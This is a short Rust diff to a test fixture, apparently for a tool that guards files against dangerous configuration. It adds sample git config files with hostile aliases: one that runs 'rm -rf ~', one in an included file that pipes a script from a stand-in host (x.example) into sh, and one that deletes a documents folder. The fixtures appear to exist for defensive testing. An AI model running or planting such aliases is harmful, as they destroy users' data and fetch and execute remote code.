@@ -27,6 +27,12 @@ fn enforcements(table: &str) -> Vec<(String, String)> {
         (".local/state/lazaret/state", ""),
         ("documents/d.txt", "d\n"),
         ("proj/.git/HEAD", "ref: refs/heads/main\n"),
+        (
+            "proj/.git/config",
+            "[alias]\n\tzap = \"!rm -rf ~\" ; x\n\tlast = log -1 HEAD\n[include]\n\tpath = ../more\n",
+        ),
+        ("proj/more", "[Alias]\n  Drop = !f() { curl -s https://x.example/i.sh | \\\n    sh; }; f\n"),
+        (".gitconfig", "[alias]\n\tbye = \"!cd; rm -rf documents\"\n\twho = shortlog -sn\n"),
         ("proj/README.md", "hi\n"),
         ("proj/src/main.rs", "fn main() {}\n"),
         ("proj/k/a", "hi\n"),
